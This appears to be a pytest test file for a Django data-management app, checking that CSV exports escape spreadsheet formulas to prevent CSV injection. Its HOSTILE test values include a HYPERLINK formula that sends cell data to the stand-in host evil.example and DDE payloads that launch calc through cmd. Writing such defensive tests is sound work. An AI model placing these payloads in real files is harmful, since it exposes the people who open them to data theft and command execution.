"""Every CSV export escapes cells a spreadsheet would run as a formula (CSV injection):
export_xref, export_golden and the stewards' history CSV write through one writer."""

import csv
import io

import pytest
from django.core.management import call_command

from mdm.services.ingest import ingest_records
from mdm.spreadsheets import safe_cell

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "'=HYPERLINK(",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(",
    "+cmd|' /C calc'!A0": "'+cmd",
    "-2+3+cmd|' /C calc'!A0": "'-2+3",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
}


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.5", "+4930123456", "1e5", "ACME", "", "a=b", 42, None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def run(*args, **options) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO(), **options)
    return out.getvalue()


EXPORTED = [value for value in HOSTILE if not value[0].isspace()]  # ingest strips the rest
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def load_hostile_customers():
    rows = [
        (n, {"source_key": value, "kind": "organization", "name": value, "city": value})
        for n, value in enumerate(EXPORTED, start=1)
    ]
    ingest_records(entity_type="customer", system_code="crm", rows=rows, actor="test",
                   create_system=True)  # fmt: skip


@pytest.mark.django_db
def test_export_xref_escapes_formulas_in_keys():
    load_hostile_customers()

    keys = [row[2] for row in rows_of(run("export_xref", "customer"))[1:]]

    assert sorted(keys) == sorted("'" + value for value in EXPORTED)


@pytest.mark.django_db
def test_export_golden_escapes_formulas_in_values(tmp_path):
    load_hostile_customers()
    path = tmp_path / "golden.csv"

    run("export_golden", "customer", output=str(path))

    with path.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values()]
    assert len(rows) == len(EXPORTED)
    assert not [cell for cell in cells if cell.startswith(FORMULA)]
    assert len([cell for cell in cells if cell.startswith("'")]) >= 2 * len(EXPORTED)
